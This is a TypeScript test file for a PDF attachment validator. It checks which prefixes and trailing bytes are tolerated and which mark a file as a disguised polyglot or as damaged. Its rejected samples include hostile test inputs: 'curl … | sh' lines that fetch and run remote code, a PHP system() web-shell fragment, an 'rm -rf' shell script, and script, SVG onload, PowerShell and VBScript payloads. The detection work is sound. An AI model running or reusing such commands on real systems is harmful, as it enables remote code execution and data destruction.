import { describe, expect, it } from 'vitest';
import { azar, conBytes, muestra, veredicto } from './prueba.ts';
import { escribirZip } from './zip-de-prueba.ts';

const gs = muestra('gs.pdf');
const cuerpo = gs.toString('latin1');
const como = (texto: string | Buffer) => veredicto(texto, 'a.pdf');

describe('before the header of a PDF', () => {
  it.each([
    ['blanks', '\r\n\r\n  '],
    ['a byte order mark', '\xef\xbb\xbf'],
    ['stray bytes', '\x00\x01\x80'],
    [
      'the headers of an HTTP answer',
      'HTTP/1.1 200 OK\r\nServer: Apache/2.4 (Unix)\r\nContent-Length: 999\r\n\r\n',
    ],
    ['the headers of a form', '------WebKitFormBoundaryAb12\r\nContent-Type: application/pdf\r\n\r\n'],
    ['a job language', '\x1b%-12345X@PJL JOB\r\n@PJL SET RESOLUTION=600\r\n'],
    ['a MacBinary header', `\0\x05a.pdf${'\0'.repeat(58)}PDF CARO${'\0'.repeat(55)}`],
    ['1 000 blanks', ' '.repeat(1000)],
    ['text', 'Este documento menciona '],
    [
      'a print ticket',
      'TIQUETE DE IMPRESIÓN\r\nUsuario: aperez <ana.perez@ips.example>\r\nCola: \\\\SRV-01\\HP-4015\r\nCopias: 2; valor $ 1.200\r\n',
    ],
    [
      'a print ticket in XML',
      '<?xml version="1.0" encoding="UTF-8"?>\n<psf:PrintTicket xmlns:psf="http://schemas.microsoft.com/windows/2003/08/printing/printschemaframework" version="1"><psf:Feature name="psk:PageMediaSize"/></psf:PrintTicket>\n',
    ],
    ['a ticket in UTF-16', Buffer.from('\ufeffImpreso por José\r\n', 'utf16le').toString('latin1')],
    ['a converter’s banner', '/*** Convertido por Conversor PDF 3.2 (evaluación) ***/\n\n'],
    ['a banner with an open comment', '*** Impreso /* 12'],
    ['a banner of dashes', '-----\n-- Convert.exe v1.0 -- (c) 2019, all rights reserved --\n-----\n'],
    ['a line of CSV', 'factura;900123456;CLINICA;"1.200,00";\r\n'],
    ['escape sequences of a printer', '\x1bE\x1b&l0O\x1b&l26A\x1b*t300R'],
    ['the sync bytes of a stream of sound', '\xff\xfb\x90\x64'],
  ])('%s may stand', async (_que, prefijo) => expect(await como(prefijo + cuerpo)).toBe('pdf'));

  it.each([
    ['a program', 'MZ\x90\0\x03\0\0\0'],
    ['a Linux program', '\x7fELF\x02\x01\x01'],
    ['a Mac program', '\xcf\xfa\xed\xfe\x07\0\0\x01'],
    ['a shell script', '#!/bin/sh\nrm -rf x\nexit\n'],
    ['a batch script', '@echo off\r\ncalc.exe\r\n'],
    ['HTML', '<html><script>alert(1)</script>\n'],
    ['HTML in UTF-16', Buffer.from('\ufeff<html><script>', 'utf16le').toString('latin1')],
    ['HTML in a header', 'X-A: <script>alert(1)</script>\n'],
    ['a script in a comment', '/*'],
    ['a script', 'var a = 1;\n'],
    ['a script that ends in a template', 'x=`'],
    ['a script that ends in a comment', 'fetch("//x")\n/* %'],
    ['PHP', '<?php system($_GET[1]); ?>\n'],
    ['an application', '<hta:application>\n'],
    ['a ZIP after a blank', '\nPK\x03\x04\x0a\0\0\0\0\0'],
    ['a picture', 'GIF89a\x01\0\x01\0'],
    ['a RAR', 'Rar!\x1a\x07\0'],
    ['a link of Windows', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F'],
    ['RTF', '{\\rtf1 '],
    ['RTF after a ticket', 'Tiquete 12\n{\\rtf1 '],
    ['a program after a byte order mark', '\xef\xbb\xbfMZ\x90\0'],
    ['a Linux program after rubbish', '\x01\x02\x7fELF\x02\x01\x01'],
    ['a program for several Macs', '\xca\xfe\xba\xbe\0\0\0\x02'],
    ['a shell script after blanks', '\n  #!/usr/bin/env bash\ncurl x | sh\n'],
    ['a shell script without its first line', 'Tiquete\ncurl https://x.example/a | sh\n'],
    ['PowerShell', '$a = New-Object Net.WebClient\n'],
    ['PowerShell in UTF-16', Buffer.from('\ufeffStart-Process calc\r\n', 'utf16le').toString('latin1')],
    ['VBScript', 'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'],
    ['Python', 'import os\nos.system("x")\n'],
    ['a shortcut', '[InternetShortcut]\r\nURL=file://x/a.exe\r\n'],
    ['SVG', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'],
    ['SVG as XML', '<?xml version="1.0"?><s:svg xmlns:s="http://www.w3.org/2000/svg"/>'],
    ['a print ticket with an event', '<psf:PrintTicket onclick="x()">'],
    ['HTML after a ticket', `Tiquete 12\r\n${' '.repeat(600)}<BODY\n>`],
    ['a comment of HTML', '<!-- saved from url -->'],
    ['a paragraph', '<p>Hola</p>'],
    ['an archive of many', '\x01\x02Rar!\x1a\x07\x01\0'],
    ['PostScript', '%!PS-Adobe-3.0\n'],
  ])('%s may not', async (_que, prefijo) => expect(await como(prefijo + cuerpo)).toBe('adjunto_tipo'));

  it('an archive with a PDF in it is an archive, and a torn one is damaged', async () => {
    const zip = escribirZip([{ nombre: 'a.pdf', datos: gs, metodo: 0 }]);
    expect(await como(zip)).toBe('adjunto_tipo');
    expect(await como(zip.subarray(0, zip.length - 30))).toBe('adjunto_danado');
  });

  it('there is room for 1 024 bytes, not for more', async () => {
    for (const relleno of [' ', 'x', '\x80', '\0']) {
      expect(await como(relleno.repeat(1024) + cuerpo)).toBe('pdf');
      expect(await como(relleno.repeat(1025) + cuerpo)).toBe('adjunto_tipo');
    }
  });

  it('stray bytes may stand', async () => {
    const numero = azar(12);
    for (let vez = 0; vez < 300; vez++) {
      const sueltos = Buffer.from(Array.from({ length: 1 + (vez % 1024) }, () => Math.floor(numero() * 256)));
      expect([sueltos, await como(Buffer.concat([sueltos, gs]))]).toEqual([sueltos, 'pdf']);
    }
  });

  it('a tar with a PDF in it is an archive', async () => {
    const tar = Buffer.alloc(512);
    tar.write('a.pdf', 0);
    tar.write('0000644\0', 100);
    tar.write('ustar\x0000', 257, 'latin1');
    tar.fill(' ', 148, 156);
    const suma = tar.reduce((total, byte) => total + byte, 0);
    tar.write(`${suma.toString(8).padStart(6, '0')}\0 `, 148);
    expect(await como(Buffer.concat([tar, gs]))).toBe('adjunto_tipo');
  });
});

describe('after the end of a PDF', () => {
  it.each([
    ['zeros, many', '\0'.repeat(200_000)],
    ['blanks and ^Z', '\r\n\r\n \x1a'],
    ['what a web server adds', '<!-- 0.02 s --><script src="x"></script>'],
    ['the end of a form', '\r\n------WebKitFormBoundaryAb12--\r\n'],
  ])('%s may stand', async (_que, sobrante) => expect(await como(cuerpo + sobrante)).toBe('pdf'));

  it.each([
    ['a program', 'MZ'.repeat(100_000)],
    ['a program after some lines', '\r\n\r\n\x7fELF\x02\x01\x01'],
    ['an archive', escribirZip([{ nombre: 'a.class', datos: gs }]).toString('latin1')],
    [
      'an archive and more',
      escribirZip([{ nombre: 'a', datos: gs }]).toString('latin1') + 'x'.repeat(60_000),
    ],
    ['a RAR far behind', `${'\x01'.repeat(300_000)}Rar!\x1a\x07\x01\0`],
    ['a 7-Zip', 'x7z\xbc\xaf\x27\x1c\0\x04'],
  ])('%s may not', async (_que, sobrante) => expect(await como(cuerpo + sobrante)).toBe('adjunto_tipo'));

  it('rubbish may stand, however much', async () => {
    for (const cuanto of [1, 1_024, 5_000, 70_000, 3_000_000]) {
      expect(await como(`${cuerpo}\n${'\xa5q '.repeat(cuanto)}`)).toBe('pdf');
    }
  });

  it('an archive inside, which nobody reads from the end, may be attached', async () => {
    const zip = escribirZip([{ nombre: 'soporte.xml', datos: gs }]).toString('latin1');
    const flujo = `90 0 obj\n<< /Length ${zip.length} >>\nstream\n${zip}\nendstream\nendobj\n`;
    expect(await como(cuerpo.replace('1 0 obj', `${flujo}1 0 obj`))).toBe('pdf');
  });

  it('an archive whose comment is the rest of the file may not', async () => {
    const zip = escribirZip([{ nombre: 'a', datos: gs }]);
    const resto = `\nendstream\nendobj\n${cuerpo.slice(9)}`;
    zip.writeUInt16LE(resto.length, zip.length - 2);
    expect(await como(`%PDF-1.4\n90 0 obj\n<<>>\nstream\n${zip.toString('latin1')}${resto}`)).toBe(
      'adjunto_tipo',
    );
  });

  it('the line may end in any way or not at all', async () => {
    const sinFin = cuerpo.trimEnd();
    for (const fin of ['', '\n', '\r', '\r\n']) expect(await como(sinFin + fin)).toBe('pdf');
  });

  it('a mark that lost some letters and a pointer that lost some digits are forgiven', async () => {
    const marca = cuerpo.lastIndexOf('%%EOF');
    const puntero = cuerpo.lastIndexOf('startxref');
    for (const fin of [marca, marca + 1, marca + 4, marca - 2, puntero + 9, puntero]) {
      expect(await como(cuerpo.slice(0, fin))).toBe('pdf');
    }
    expect(await como(cuerpo.slice(0, puntero - 4))).toBe('adjunto_danado');
  });
});

describe('a PDF', () => {
  it.each([
    ['only a header', '%PDF-1.7\n'],
    ['a header and a mark', '%PDF-1.7\n%%EOF\n'],
    ['no objects', '%PDF-1.7\ntrailer <</Root 1 0 R>>\nstartxref\n9\n%%EOF\n'],
    ['no root', '%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer <<>>\nstartxref\n9\n%%EOF\n'],
    ['letters', '%PDF'],
  ])('of %s is damaged', async (_que, texto) => expect(await como(texto)).toBe('adjunto_danado'));

  it.each([
    'gs.pdf',
    'texto.pdf',
    'objstm.pdf',
    'cifrado.pdf',
    'lineal.pdf',
    'linealcifrado.pdf',
    'linincr.pdf',
  ])('%s cut anywhere before its last kilobyte is damaged', async (nombre) => {
    const entero = muestra(nombre);
    const incremento = nombre === 'linincr.pdf' ? muestra('lineal.pdf').length + 40 : 0;
    for (let largo = 1; largo < entero.length - 64; largo += 61) {
      // An updated file cut where its first revision ends is that revision, whole.
      if (incremento && Math.abs(largo - muestra('lineal.pdf').length) < 40) continue;
      expect([largo, await como(entero.subarray(0, largo))]).toEqual([largo, 'adjunto_danado']);
    }
  });

  it('that ends in the middle of an update is damaged', async () => {
    const actualizado = muestra('incremental.pdf');
    const primera = actualizado.indexOf('%%EOF') + 5;
    expect(await como(actualizado.subarray(0, primera))).toBe('pdf');
    expect(await como(actualizado.subarray(0, primera + 30))).toBe('adjunto_danado');
    expect(await como(actualizado.subarray(0, actualizado.length - 60))).toBe('adjunto_danado');
  });

  it.each([
    ['a pointer that is wrong', 'startxref\n99999999\n'],
    ['a pointer into nothing', 'startxref\n7\n'],
    ['a pointer of nought', 'startxref\n0\n'],
    ['a pointer without a number', 'startxref\n'],
    ['a pointer below nought', 'startxref\n-1\n'],
    ['no pointer', ''],
  ])('with %s is read by its objects, and damaged without its catalogue', async (_que, puntero) => {
    const otro = cuerpo.replace(/startxref\s+\d+\s+/, puntero);
    expect(otro).not.toBe(cuerpo);
    expect(await como(otro)).toBe('pdf');
    const numero = /\/Root (\d+) 0 R/.exec(cuerpo)![1]!;
    const sinCatalogo = otro.replace(new RegExp(`\\b${numero} 0 obj`), '999 0 obj');
    expect(sinCatalogo).not.toBe(otro);
    expect(await como(sinCatalogo)).toBe('adjunto_danado');
  });

  it.each(['1.0', '1.4', '1.7', '2.0', '9.9', '1.'])('of version %s is accepted', async (version) => {
    expect(await como(cuerpo.replace(/%PDF-\d\.\d/, `%PDF-${version}`))).toBe('pdf');
  });

  it('with lines that a mail program changed is accepted', async () => {
    expect(await como(cuerpo.replaceAll('\n', '\r\n'))).toBe('pdf');
    expect(await como(cuerpo.replaceAll('\n', '\r'))).toBe('pdf');
  });

  it('that declares itself longer or shorter than it is is an ordinary PDF', async () => {
    const lineal = muestra('lineal.pdf');
    const largo = lineal.indexOf(`/L ${lineal.length}`) + 3;
    expect(largo).toBeGreaterThan(3);
    for (const digitos of ['9', '0', '1']) expect(await como(conBytes(lineal, largo, digitos))).toBe('pdf');
    for (const mas of [1, 12, 441, 5_000]) {
      expect(await como(Buffer.concat([lineal, Buffer.alloc(mas, '\n')]))).toBe('pdf');
    }
    expect(await como(lineal.subarray(0, lineal.length - 1))).toBe('pdf');
    expect(await como(lineal.toString('latin1').replace(/\n$/, '\r\n'))).toBe('pdf');
    expect(await como(muestra('linealizado-sin-salto-final.pdf'))).toBe('pdf');
  });

  it('that is linearised and ends with its first part is damaged', async () => {
    for (const nombre of ['lineal.pdf', 'linealcifrado.pdf', 'linealizado-sin-salto-final.pdf']) {
      const lineal = muestra(nombre);
      const primera = lineal.indexOf('%%EOF');
      for (const fin of [primera, primera + 3, primera + 5, primera + 6]) {
        expect(await como(lineal.subarray(0, fin))).toBe('adjunto_danado');
        expect(await como(Buffer.concat([lineal.subarray(0, fin), Buffer.alloc(90_000)]))).toBe(
          'adjunto_danado',
        );
      }
    }
  });

  it('with cross-reference streams and tables for older readers is accepted', async () => {
    const hibrido = cuerpo.replace('/Root', '/XRefStm 15 /Root');
    expect(hibrido).not.toBe(cuerpo);
    expect(await como(hibrido)).toBe('pdf');
  });

  it('of many updates, each ending well, is accepted', async () => {
    let pdf = cuerpo;
    for (let n = 0; n < 20; n++) {
      const lugar = pdf.length;
      pdf += `${100 + n} 0 obj\n<< /N ${n} >>\nendobj\nxref\n${100 + n} 1\n${String(lugar).padStart(10, '0')} 00000 n \ntrailer\n<< /Root 1 0 R /Prev 9 >>\nstartxref\n${pdf.length + 30}\n%%EOF\n`;
    }
    expect(await como(pdf)).toBe('pdf');
  });
});
